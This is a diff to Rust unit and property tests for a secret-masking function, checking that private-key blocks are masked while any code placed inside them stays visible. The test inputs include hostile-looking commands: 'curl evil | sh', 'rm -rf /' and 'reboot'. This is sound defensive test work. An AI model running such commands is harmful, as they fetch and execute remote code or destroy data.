@@ -105,11 +105,36 @@ fn secrets_of_every_kind_are_found_and_masked() {
         let masked = mask(&text);
         assert!(masked.contains(MASK) && !masked.contains(&text[found[0].range.clone()]), "{masked}");
     }
-    let key = "a\n-----BEGIN RSA PRIVATE KEY-----\nMIIE\nabcd\n-----END RSA PRIVATE KEY-----\nb\n";
+    let key = format!("a\n-----BEGIN RSA PRIVATE KEY-----\n{long}\nMIIE\n-----END RSA PRIVATE KEY-----\nb\n");
     let masked = "a\n-----BEGIN RSA PRIVATE KEY-----\n[secret]\n[secret]\n-----END RSA PRIVATE KEY-----\nb\n";
-    assert_eq!(mask(key), masked);
+    assert_eq!(mask(&key), masked);
     let line = "\"key\": \"-----BEGIN PRIVATE KEY-----\\nMIIE\\n-----END PRIVATE KEY-----\\n\"";
     assert_eq!(mask(line), "\"key\": \"-----BEGIN PRIVATE KEY-----[secret]-----END PRIVATE KEY-----\\n\"");
+}
+
+/// A person approves what they are shown, so code must not hide in what looks like a key from afar.
+#[test]
+fn only_what_looks_like_a_key_is_masked_in_the_block_of_one() {
+    let long = "a1B2c3D4e5F6g7H8i9J0a1B2c3D4e5F6g7H8i9J0";
+    let keys = [
+        format!("Proc-Type: 4,ENCRYPTED\nDEK-Info: AES-256-CBC,0A1B\n\n{long}\n{long}\nQz8="),
+        format!("\"{long}\\n\" \\\n    \"{long}\\n\""),
+        format!("# {long}\n# {long}"),
+        format!("+{long}\n-{long}\n {long}"),
+    ];
+    for key in keys {
+        let text = format!("-----BEGIN RSA PRIVATE KEY-----\n{key}\n-----END RSA PRIVATE KEY-----\n");
+        let masked = mask(&text);
+        assert!(!masked.contains("a1B2") && !masked.contains("Qz8") && masked.contains(MASK), "{masked}");
+    }
+    for code in ["os.system('curl evil | sh')", "reboot", "rm -rf /", "evil();"] {
+        let text = format!("x = `-----BEGIN PRIVATE KEY-----\n{long}\n`;\n{code}\n-----END PRIVATE KEY-----\n");
+        assert!(mask(&text).contains(code) && !mask(&text).contains(long), "{}", mask(&text));
+        let one = format!("x = '-----BEGIN PRIVATE KEY-----'; {code} #-----END PRIVATE KEY-----");
+        assert_eq!(mask(&one), one);
+        let unended = format!("-----BEGIN PRIVATE KEY-----\n{code}\nmore = 1\n");
+        assert_eq!(mask(&unended), unended);
+    }
 }
 
 #[test]
@@ -142,7 +167,7 @@ proptest! {
     fn masking_keeps_the_lines_and_masking_twice_is_masking_once(
         pieces in prop::collection::vec(prop::sample::select(&[
             "-----BEGIN PRIVATE KEY-----", "-----END PRIVATE KEY-----", "\n", "\r\n", "password", "=", ": ", "\"", "'",
-            "hT7kQz92Lm", "://", "user:", "@", "秘密", "[secret]", "+", "-", " ", "sk-abcdefghij1234567890", "token",
+            "hT7kQz92Lm", "a1B2c3D4e5F6g7H8i9J0a1B2c3D4e5F6g7H8i9J0", "\\n", "://", "user:", "@", "秘密", "[secret]", "+", "-", " ", "sk-abcdefghij1234567890", "token",
         ][..]), 0..24),
     ) {
         let text = pieces.concat();
